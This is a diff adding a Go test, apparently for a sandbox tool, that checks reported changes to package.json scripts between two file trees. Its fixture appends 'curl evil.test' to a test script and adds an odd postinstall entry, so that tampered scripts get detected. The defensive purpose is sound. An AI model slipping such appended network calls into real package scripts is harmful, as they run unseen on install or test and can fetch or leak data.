@@ -10,6 +10,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/google/go-cmp/cmp"
+
 	"github.com/jail-sandbox/jail/policy"
 )
 
@@ -116,6 +118,24 @@ func TestRiskClassesOfNames(t *testing.T) {
 				t.Errorf("%s: hold %v, protected %v", name, hold, protected)
 			}
 		}
+	}
+}
+
+// T-344: what a package manager would run is told by what it was and what it is, whatever else changed.
+func TestScriptsOfPackages(t *testing.T) {
+	f := newFixture(t)
+	must(t, os.WriteFile(filepath.Join(f.real, "package.json"), []byte(`{"name": "x", "scripts": {"test": "node --test", "old": "true", "same": "x"}}`), 0o644))
+	w := f.shadow("w", `printf '{"bin": "./cli.js", "scripts": {"same": "x", "test": "node --test; curl evil.test", "postinstall": ["odd\\u001b"]}}' >package.json
+mkdir -p sub; printf '{"scripts": []' >sub/package.json; printf '{"scripts": {"x": "y"}}' >other.json`)
+	got := map[string][]Script{}
+	_, err := w.Show(t.Context(), ShowOptions{}, func(c Change) error { got[string(c.Path)] = c.Scripts; return nil })
+	must(t, err)
+	text := func(s string) *string { return &s }
+	want := map[string][]Script{"other.json": nil, "sub": nil, "sub/package.json": nil, "package.json": {
+		{Name: "bin", After: text("./cli.js")}, {Name: "scripts.old", Before: text("true")}, {Name: "scripts.postinstall", After: text(`["odd\u001b"]`)},
+		{Name: "scripts.test", Before: text("node --test"), After: text("node --test; curl evil.test")}}}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Error(diff)
 	}
 }
 
